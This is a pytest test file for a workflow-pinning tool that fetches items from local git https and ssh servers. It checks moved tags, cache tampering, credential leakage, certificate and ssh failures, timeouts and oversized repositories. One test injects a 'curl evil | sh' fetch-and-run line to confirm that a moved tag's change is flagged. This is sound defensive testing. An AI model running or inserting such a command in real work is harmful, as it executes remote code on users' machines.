"""Items fetched over https and ssh from real servers: git http-backend behind TLS, and sshd."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from perfflow.model.errors import Exit, UserError
from perfflow.trees import remote
from tests.library.servers import PASSWORD, SSHD, USER, has_http_backend, https, silent, ssh
from tests.library.team import COMMAND, LIMITS, WORDS, Team
from tests.repositories import git

needs_https = pytest.mark.skipif(not has_http_backend(), reason="no git http-backend, or no openssl")
needs_ssh = pytest.mark.skipif(not SSHD, reason="no sshd: apt-get install openssh-server")


@pytest.fixture
def team(tmp_path: Path) -> Team:
    """A team whose projects have their own git configuration."""
    team = Team(tmp_path)
    (tmp_path / "home").mkdir()
    team.env |= {"HOME": str(tmp_path / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
    return team


def configure(team: Team, key: str, value: str) -> None:
    git(team.top, "config", "--file", f"{team.env['HOME']}/.gitconfig", key, value)


@pytest.fixture
def address(team: Team, tmp_path: Path) -> Iterator[str]:
    """The https server for the folder with the team's repository."""
    with https(tmp_path, tmp_path) as (address, certificate):
        team.env["GIT_SSL_CAINFO"] = str(certificate)
        yield address


@pytest.fixture
def by_ssh(team: Team) -> Iterator[tuple[str, Path]]:
    """The ssh server for the team's repository, to which its projects have access, and the configuration of ssh."""
    with ssh(team.top / "sshd") as (address, config):
        configure(team, "core.sshCommand", f"ssh -F {config}")
        yield f"{address}{team.folder}", config


@needs_https
def test_over_https(team: Team, address: str) -> None:
    folder = f"localhost-{address.rpartition(':')[2]}/team"
    walk(team, lambda revision, path: f"git+{address}/team@{revision}#{path}", folder)


@pytest.mark.long  # as the server of https in this file
@needs_https
def test_the_short_form_where_its_host_is_a_mirror(team: Team, address: str) -> None:
    configure(team, f"url.{address}/.insteadOf", "https://github.com/acme/")
    walk(team, lambda revision, path: f"acme/team/{path.removesuffix('.yaml')}@{revision}", "github.com/acme/team")


@pytest.mark.long  # as the server of https in this file
@needs_ssh
def test_over_ssh(team: Team, by_ssh: tuple[str, Path]) -> None:
    host = by_ssh[0].removesuffix(str(team.folder)).partition("@")[2].replace(":", "-")
    walk(team, lambda revision, path: f"git+{by_ssh[0]}@{revision}#{path}", f"{host}{team.folder}")


@pytest.mark.long  # as the server of https in this file
@needs_ssh
def test_a_commit_that_only_the_lock_remembers(team: Team, by_ssh: tuple[str, Path]) -> None:
    """A plain ssh server sends the commits of branches and tags, with their history, and nothing else."""
    project = team.project()
    project.add(f"git+{by_ssh[0]}@main#parts/limits.yaml")
    shutil.rmtree(team.top / "cache")
    git(team.folder, "commit", "--amend", "-qm", "another")
    git(team.folder, "tag", "-f", "v1")
    told = project.refused("library", "add", status=3)
    assert "no branch and no tag has it" in told
    assert "give it a tag there" in told
    git(team.folder, "branch", "old", "HEAD@{1}")
    project.add()


def walk(team: Team, reference: Callable[[str, str], str], folder: str) -> None:
    """Pin, run, update, verify and vendor, as a user does. ``folder``: the folder of the copies."""
    tag, branch = reference("v1", "workflows/command.yaml"), reference("main", "parts/limits.yaml")
    project = team.project("one", f"[{branch}, {tag}]")
    added = project.add(tag, branch)
    assert "2 items pinned and fetched" in added
    assert "echo $# words" in added
    old = team.head()
    kept = {(item["kind"], item["commit"], item["state"]) for item in project.items()}
    assert kept == {("tag", old, "fetched"), ("branch", old, "fetched")}
    # A branch that moved is followed, a tag that moved is not.
    team.write("tools/words.yaml", WORDS.replace("echo $#", "curl evil | sh; echo $#"))
    team.write("parts/limits.yaml", LIMITS.replace("5%", "3%"))
    new = team.commit("v1")
    moved = project.run("library", "update")
    assert (moved.returncode, "the tag v1 was moved" in moved.stderr) == (1, True)
    assert f"{old[:12]} -> {new[:12]}, its files changed" in moved.stdout
    assert "concern: 3%" in moved.stdout
    assert "curl evil" not in moved.stdout
    project.ok("library", "verify")
    # A changed byte in the cache stops a run. `add` restores the file by fetching the pinned commit.
    words = next(Path(item["folder"], "tools/words.yaml") for item in project.items() if item["kind"] == "tag")
    words.write_text(words.read_text().replace("echo", "Echo"))
    assert "tools/words.yaml was changed" in project.refused("run", "own")
    project.add(tag)
    assert words.read_text() == WORDS
    project.ok("library", "vendor")
    vendored = project.root / "workflows/vendor"
    assert (vendored / f"{folder}@v1/workflows/command.yaml").read_text() == COMMAND
    assert "concern: 3%" in (vendored / f"{folder}@main/parts/limits.yaml").read_text()
    # Without the server, the cache and the record of shown commands.
    for name in ("team", "cache", "state"):
        shutil.move(team.top / name, team.top / f"{name}-gone")
    ran = json.loads(project.ok("run", "own", "--budget=60s", "--progress=off", "--only=words", "--json"))
    assert ran["benchmarks"][0]["name"] == "words"
    project.ok("library", "verify")
    assert "git must log in without a prompt" in project.refused("library", "update", status=3)


@needs_https
def test_a_server_that_asks_for_a_password(team: Team, address: str) -> None:
    shutil.copytree(team.folder, team.top / "private/team")
    project = team.project()
    reference = f"git+{address}/private/team@v1#parts/limits.yaml"
    # Without a helper, git fails: it does not ask on the terminal.
    refused = project.refused("library", "add", reference, status=3)
    assert f"asking {address}/private/team for its tags and branches: " in refused
    assert "git must log in without a prompt: use a credential helper" in refused
    (team.top / "credentials").write_text(f"https://{USER}:{PASSWORD}@{address.partition('://')[2]}\n")
    configure(team, "credential.helper", f"store --file={team.top}/credentials")
    let_in = project.run("library", "add", reference)
    assert (let_in.returncode, PASSWORD in let_in.stdout + let_in.stderr) == (0, False), let_in.stderr
    files = [path for path in project.root.rglob("*") if path.is_file()]
    assert not [path for path in files if PASSWORD in path.read_text(errors="replace")]


@needs_https
def test_a_certificate_that_nobody_vouches_for(team: Team, address: str) -> None:
    del team.env["GIT_SSL_CAINFO"]
    words = ("library", "add", f"git+{address}/team@v1#parts/limits.yaml")
    assert "certificate" in team.project().refused(*words, status=3)


@needs_ssh
@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        ("sshd/user", "sshd/other", "Permission denied (publickey)"),
        ("sshd/known", "sshd/unknown", "Host key verification failed"),
    ],
)
def test_ssh_that_is_not_let_in_asks_nobody(
    team: Team, by_ssh: tuple[str, Path], before: str, after: str, said: str
) -> None:
    address, config = by_ssh
    config.write_text(config.read_text().replace(before, after))
    told = team.project().refused("library", "add", f"git+{address}@v1#parts/limits.yaml", status=3)
    assert said in told
    assert "ssh-agent" in told


def test_a_server_that_never_answers_is_left(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(remote, "LIMIT", 1.0)
    with silent() as (address, hung_up):
        with pytest.raises(UserError, match=r"asking .* took more than 1 s") as raised:
            remote.tip(f"{address}/o/r", "v1", tmp_path)
        assert raised.value.exit is Exit.UNMEASURED
        # No process that git started is left running.
        assert hung_up.wait(10)


@pytest.mark.long
def test_how_long_a_server_that_never_answers_is_waited_for(team: Team) -> None:
    project = team.project()
    with silent() as (address, _):
        began = time.monotonic()
        told = project.refused("library", "add", f"git+{address}/o/r@v1#a", status=3)
        waited = time.monotonic() - began
    assert "took more than 120 s" in told
    assert waited >= remote.LIMIT


@needs_https
def test_a_repository_that_is_too_large_is_refused(
    team: Team, address: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(remote, "LARGEST", 2**20)
    monkeypatch.setenv("GIT_SSL_CAINFO", team.env["GIT_SSL_CAINFO"])
    small, large = (_with_data(team, size) for size in (2**19, 2**21))
    for url in (f"{address}/team", f"file://{team.folder}"):
        with remote.fetched(url, small, tmp_path) as fetched:
            assert fetched.files["data.bin"].size == 2**19
        with pytest.raises(UserError, match="more than 1 MiB") as raised, remote.fetched(url, large, tmp_path):
            pass
        assert raised.value.exit is Exit.USAGE


@pytest.mark.long
@needs_https
def test_what_is_too_large_as_a_user_sees_it(team: Team, address: str) -> None:
    _with_data(team, remote.LARGEST + 2**20)
    git(team.folder, "tag", "v2")
    project = team.project()
    for place in (address, f"file://{team.top}"):
        told = project.refused("library", "add", f"git+{place}/team@v2#parts/limits.yaml")
        assert "more than 128 MiB" in told
        assert "keep the workflows in a repository of their own" in told
    assert not project.lock.exists()
    # The previous commit has nothing of it to send.
    project.add(f"git+{address}/team@v1#parts/limits.yaml")


def _with_data(team: Team, size: int) -> str:
    (team.folder / "data.bin").write_bytes(os.urandom(size))
    git(team.folder, "-c", "core.compression=0", "add", "-A")
    return team.commit()


def test_a_few_objects_that_name_endless_files_are_refused(team: Team) -> None:
    entry = f"100644 blob {git(team.folder, 'rev-parse', 'HEAD:README.md').strip()}"
    for _ in range(10):
        listing = "".join(f"{entry}\t{number}\n" for number in range(10))
        tree = subprocess.check_output(["git", "mktree"], input=listing, cwd=team.folder, text=True).strip()
        entry = f"040000 tree {tree}"
    git(team.folder, "tag", "many", git(team.folder, "commit-tree", "-m", "many", tree).strip())
    assert "more than 32 MiB" in team.project().refused("library", "add", team.reference("many", "a.yaml"))
